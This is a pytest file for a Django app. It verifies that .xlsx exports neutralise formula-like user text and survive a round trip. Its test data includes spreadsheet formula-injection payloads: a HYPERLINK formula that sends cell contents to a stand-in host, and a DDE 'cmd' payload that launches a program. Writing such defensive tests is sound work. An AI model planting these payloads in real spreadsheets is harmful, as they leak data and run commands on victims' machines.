"""Exports neutralise formulas (issue #12, "Exports neutralise formulas"): user text starting
with =, +, -, @, tab or CR comes out of every .xlsx the app writes as a text cell that Excel and
LibreOffice do not evaluate, the workbook does not force recalculation, and the workbook export
→ import round trip keeps the text exactly."""

import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from pengukuran.models import Realisasi
from perencanaan.models import Indikator
from skm.models import Responden

pytestmark = pytest.mark.django_db

RUMUS = [
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def _sel(path, sheet, header, value):
    """The cell of column ``header`` holding ``value`` (read as openpyxl stores it)."""
    wb = load_workbook(path)  # not read-only, formulas not evaluated: what the file says
    ws = wb[sheet]
    col = [c.value for c in ws[1]].index(header)
    return next(r[col] for r in ws.iter_rows(min_row=2) if r[col].value == value)


def _tidak_hitung_ulang(path):
    with zipfile.ZipFile(path) as zf:
        assert b"fullCalcOnLoad" not in zf.read("xl/workbook.xml")


def test_workbook_export_stores_formula_like_text_as_text(demo, tmp_path):
    ind = Indikator.objects.filter(instansi=demo).order_by("kode")
    for i, teks in zip(ind, RUMUS, strict=False):
        i.nama = teks
        i.save()
    r = Realisasi.objects.filter(indikator__instansi=demo).first()
    r.catatan = "\tdi-tab"
    r.save()
    a = tmp_path / "a.xlsx"
    call_command("export_workbook", "--instansi", "bantargebang", "--tahun", "2024", "--out", str(a))
    for teks in RUMUS:
        c = _sel(a, "indikator", "nama", teks)
        assert c.data_type == "s" and c.quotePrefix, teks
    c = _sel(a, "realisasi", "catatan", "\tdi-tab")
    assert c.data_type == "s" and c.quotePrefix
    assert _sel(a, "indikator", "kode", ind[0].kode).quotePrefix is False  # ordinary text untouched
    _tidak_hitung_ulang(a)
    with zipfile.ZipFile(a) as zf:  # no formula element anywhere
        assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))

    # round trip: importing the export back keeps every text as it was
    Indikator.objects.filter(instansi=demo).update(nama="diganti")
    call_command("import_workbook", str(a))
    assert set(RUMUS) <= set(Indikator.objects.filter(instansi=demo).values_list("nama", flat=True))


def test_skm_respondent_export_stores_formula_like_text_as_text(demo, pengguna_demo, tmp_path):
    for teks in RUMUS:
        Responden.objects.create(
            instansi=demo,
            tahun=2024,
            periode="TW1",
            saran=teks,
            pekerjaan="=1+1",
            **{f"u{i}": 3 for i in range(1, 10)},
        )
    c = Client()
    assert c.login(username="operator", password="demo-sakip-2024")
    r = c.get("/unit/bantargebang/skm/2024/responden.xlsx")
    assert r.status_code == 200
    path = tmp_path / "r.xlsx"
    path.write_bytes(b"".join(r.streaming_content) if r.streaming else r.content)
    for teks in RUMUS:
        c = _sel(path, "skm_responden", "saran", teks)
        assert c.data_type == "s" and c.quotePrefix, teks
    assert _sel(path, "skm_responden", "pekerjaan", "=1+1").data_type == "s"
    _tidak_hitung_ulang(path)
